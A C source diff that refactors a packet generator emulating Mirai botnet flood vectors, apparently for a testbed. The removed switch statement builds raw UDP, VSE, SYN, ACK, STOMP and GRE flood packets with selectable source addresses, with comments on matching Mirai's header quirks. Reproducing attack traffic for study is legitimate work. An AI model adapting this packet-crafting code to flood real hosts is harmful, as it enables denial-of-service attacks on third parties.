+uint32_t vec_ip_len(const struct vec_opts *o)
+{
+	const struct vec_desc *d = vec_desc(o->vec);
+	uint32_t n;
+
+	if (!d || !d->l4_len)
+		return 0;
+	n = sizeof(struct iphdr) + d->l4_len + d->fixed;
+	if (d->wire.inner)
+		n += d->wire.inner + sizeof(struct iphdr);
+	if (d->opts & O(LEN))
+		n += o->len;
+	if (d->opts & O(DOMAIN)) /* a length byte per label, the closing zero */
+		n += (uint32_t)strlen(o->domain) + 2;
+	return n;
+}
+
+void vec_flow_init(const struct vec_opts *o, struct vec_flow *f, uint32_t local,
+		   const struct vec_target *t, uint64_t seed, uint64_t stream)
+{
+	const struct vec_desc *d = vec_desc(o->vec);
+
+	memset(f, 0, sizeof(*f));
+	f->local = local;
+	f->tgt = *t;
+	vec_rand_seed(&f->rnd, seed, stream);
+	if (d && d->setup)
+		d->setup(o, f);
+}
+
+int vec_next(const struct vec_opts *o, struct vec_flow *f, uint8_t *buf, size_t cap)
+{
+	const struct vec_desc *d = vec_desc(o->vec);
+	uint32_t tot = vec_ip_len(o);
+	struct iphdr *ip = (struct iphdr *)buf;
 
 	if (!tot || tot > cap || tot > 0xffff)
 		return -EMSGSIZE;
-	switch (o->vec) {
-	case VEC_UDP:
-		dst = vec_target_host(&f->rnd, &f->tgt);
-		src = source(o, f);
-		ip_start(ip, o, (uint16_t)tot, 17, src, dst, &f->rnd);
-		ports(l4, o, &f->rnd);
-		put16(l4 + 4, (uint16_t)(8 + o->len));
-		l4[6] = l4[7] = 0;
-		pl = l4 + 8;
-		if (o->rand)
-			vec_rand_fill(&f->rnd, pl, o->len);
-		else
-			memset(pl, 0, o->len);
-		c = vec_l4_csum(src, dst, 17, l4, 8 + o->len);
-		memcpy(l4 + 6, &c, 2);
-		break;
-	case VEC_VSE:
-		dst = vec_target_host(&f->rnd, &f->tgt);
-		ip_start(ip, o, (uint16_t)tot, 17, f->local, dst, &f->rnd);
-		ports(l4, o, &f->rnd);
-		put16(l4 + 4, 8 + sizeof(vse_payload));
-		l4[6] = l4[7] = 0;
-		memcpy(l4 + 8, vse_payload, sizeof(vse_payload));
-		c = vec_l4_csum(f->local, dst, 17, l4, 8 + sizeof(vse_payload));
-		memcpy(l4 + 6, &c, 2);
-		break;
-	case VEC_DNS:
-		return build_dns(o, f, ip, (uint16_t)tot);
-	case VEC_SYN:
-		dst = vec_target_host(&f->rnd, &f->tgt);
-		src = source(o, f);
-		ip_start(ip, o, 60, 6, src, dst, &f->rnd);
-		ports(l4, o, &f->rnd);
-		tcp_seq_ack(l4, o, &f->rnd);
-		l4[12] = 10 << 4;
-		tcp_flags(l4, o);
-		l4[14] = l4[15] = 0; /* window 0 */
-		l4[16] = l4[17] = 0;
-		if (o->urg) {
-			uint32_t v = vec_rand_next(&f->rnd);
-
-			l4[18] = (uint8_t)v;
-			l4[19] = (uint8_t)(v >> 8);
-		} else {
-			l4[18] = l4[19] = 0;
-		}
-		pl = l4 + 20;
-		pl[0] = 2; pl[1] = 4; put16(pl + 2, f->mss);
-		pl[4] = 4; pl[5] = 2;
-		pl[6] = 8; pl[7] = 10; memcpy(pl + 8, &f->tsval, 4); memset(pl + 12, 0, 4);
-		pl[16] = 1;
-		pl[17] = 3; pl[18] = 3; pl[19] = 6;
-		c = vec_l4_csum(src, dst, 6, l4, 40);
-		memcpy(l4 + 16, &c, 2);
-		break;
-	case VEC_ACK:
-		dst = vec_target_host(&f->rnd, &f->tgt);
-		src = source(o, f);
-		ip_start(ip, o, (uint16_t)tot, 6, src, dst, &f->rnd);
-		ports(l4, o, &f->rnd);
-		tcp_seq_ack(l4, o, &f->rnd);
-		l4[12] = 5 << 4;
-		tcp_flags(l4, o);
-		put16(l4 + 14, f->window);
-		memset(l4 + 16, 0, 4); /* checksum, urgent pointer always 0 */
-		pl = l4 + 20;
-		if (o->rand)
-			vec_rand_fill(&f->rnd, pl, o->len);
-		else
-			memcpy(pl, f->fixed_payload, o->len);
-		c = vec_l4_csum(src, dst, 6, l4, 20 + o->len);
-		memcpy(l4 + 16, &c, 2);
-		break;
-	case VEC_STOMP:
-		/* the connection's addresses and ports; Mirai swaps seq/ack and
-		 * keeps 16 bits of each (upper half on a little-endian bot) */
-		dst = f->host;
-		ip_start(ip, o, (uint16_t)tot, 6, f->local, dst, &f->rnd);
-		put16(l4, f->lport);
-		put16(l4 + 2, f->rport);
-		seq16(l4 + 4, f->srv_seq & 0xffff);
-		f->srv_seq++;
-		seq16(l4 + 8, f->my_ack & 0xffff);
-		l4[12] = 8 << 4; /* data offset 8, 20-byte header (Q5) */
-		tcp_flags(l4, o);
-		put16(l4 + 14, f->window);
-		memset(l4 + 16, 0, 4);
-		pl = l4 + 20;
-		if (o->rand)
-			vec_rand_fill(&f->rnd, pl, o->len);
-		else
-			memcpy(pl, f->fixed_payload, o->len);
-		c = vec_l4_csum(f->local, dst, 6, l4, 20 + o->len);
-		memcpy(l4 + 16, &c, 2);
-		break;
-	case VEC_GREIP:
-	case VEC_GREETH: {
-		uint8_t *gre = l4, *iip, *iudp;
-		uint32_t idst;
-		uint16_t oid;
-
-		dst = vec_target_host(&f->rnd, &f->tgt);
-		src = source(o, f);
-		ip_start(ip, o, (uint16_t)tot, 47, src, dst, &f->rnd);
-		gre[0] = gre[1] = 0;
-		put16(gre + 2, o->vec == VEC_GREIP ? 0x0800 : 0x6558);
-		iip = gre + 4;
-		if (o->vec == VEC_GREETH) {
-			uint32_t m[3] = { vec_rand_next(&f->rnd), vec_rand_next(&f->rnd), vec_rand_next(&f->rnd) };
-
-			memcpy(iip, m, 12);
-			put16(iip + 12, 0x0800);
-			iip += 14;
-		}
-		idst = o->gcip ? dst : vec_testbed_random(&f->rnd);
-		ip_hdr(iip, o, (uint16_t)(28 + o->len), 17, f->inner_src, idst);
-		/* ~(outer id - 1000) on the little-endian view of the field */
-		oid = (uint16_t)(ip[4] | ip[5] << 8);
-		if (o->ident == VEC_RANDOM16)
-			oid = (uint16_t)~(uint16_t)(oid - 1000);
-		else
-			oid = (uint16_t)~oid;
-		iip[4] = (uint8_t)oid;
-		iip[5] = (uint8_t)(oid >> 8);
-		iudp = iip + 20;
-		port(iudp, o->sport, &f->rnd);
-		port(iudp + 2, o->dport, &f->rnd);
-		put16(iudp + 4, (uint16_t)(8 + o->len));
-		iudp[6] = iudp[7] = 0;
-		pl = iudp + 8;
-		if (o->rand)
-			vec_rand_fill(&f->rnd, pl, o->len);
-		else
-			memset(pl, 0, o->len);
-		c = vec_l4_csum(f->inner_src, idst, 17, iudp, 8 + o->len);
-		memcpy(iudp + 6, &c, 2);
-		ip_csum(iip);
-		break;
-	}
-	default:
+	if (!d->build)
 		return -EINVAL;
-	}
+	d->build(o, f, ip, (uint16_t)tot);
 	ip_csum(ip);
 	return (int)tot;
 }
